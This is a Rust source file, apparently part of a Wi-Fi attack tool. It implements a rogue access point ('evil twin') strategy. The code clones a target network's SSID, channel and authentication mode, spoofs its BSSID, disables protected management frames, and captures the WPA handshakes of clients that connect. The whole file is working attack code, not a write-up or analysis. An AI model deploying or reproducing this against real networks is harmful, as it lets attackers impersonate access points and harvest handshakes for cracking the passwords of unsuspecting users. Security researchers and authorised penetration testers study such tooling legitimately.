//! RogueAP: clone the target's identity on our AP role and capture the
//! handshakes of clients that join it

use tracing::{debug, info, warn};

use super::StrategyContext;
use crate::capture::ListenOutcome;
use crate::config::AttackSettings;
use crate::error::WifiCtlResult;
use crate::radio::RadioController;
use crate::types::{ApConfig, NetworkDescriptor};

/// AP configuration that presents as `target`
pub(super) fn clone_config(target: &NetworkDescriptor, settings: &AttackSettings) -> ApConfig {
    ApConfig {
        ssid: target.ssid.clone(),
        password: (!target.auth_mode.is_open()).then(|| settings.rogue_ap_password.clone()),
        channel: target.channel,
        max_connections: settings.rogue_ap_max_connections,
        auth_mode: target.auth_mode,
        hidden: false,
        pmf_capable: false,
        pmf_required: false,
    }
}

/// Spoof the target BSSID and bring up the clone. The MAC is restored if the
/// AP cannot be started.
pub(super) async fn prepare(
    radio: &RadioController,
    target: &NetworkDescriptor,
    settings: &AttackSettings,
) -> WifiCtlResult<ApConfig> {
    let config = clone_config(target, settings);
    radio.set_ap_mac(target.bssid).await?;
    if let Err(e) = radio.start_access_point(&config).await {
        if let Err(restore) = radio.restore_ap_mac().await {
            warn!("Failed to restore AP MAC after rogue AP failure: {}", restore);
        }
        return Err(e);
    }
    info!(
        "Rogue AP {} up as {} on channel {}",
        target.ssid_lossy(),
        target.bssid,
        target.channel
    );
    Ok(config)
}

/// Bring back the management AP (or just close ours), then the original MAC.
/// Both steps run even if the first fails.
pub(super) async fn teardown(radio: &RadioController, settings: &AttackSettings) -> WifiCtlResult<()> {
    let ap = if settings.restore_management_ap {
        radio.start_management_ap().await
    } else {
        radio.stop_access_point().await
    };
    if let Err(e) = &ap {
        warn!("Failed to replace rogue AP: {}", e);
    }
    let mac = radio.restore_ap_mac().await;
    ap.and(mac)
}

pub(super) async fn run(ctx: StrategyContext) {
    let mut analyzer = ctx.analyzer();
    let outcome = ctx
        .window()
        .listen(&mut analyzer, None, |observation| ctx.observe(observation))
        .await;

    match outcome {
        ListenOutcome::Handshake(handshake) => ctx.captured(handshake),
        ListenOutcome::Stopped | ListenOutcome::Elapsed => debug!("Rogue AP capture finished"),
    }
}
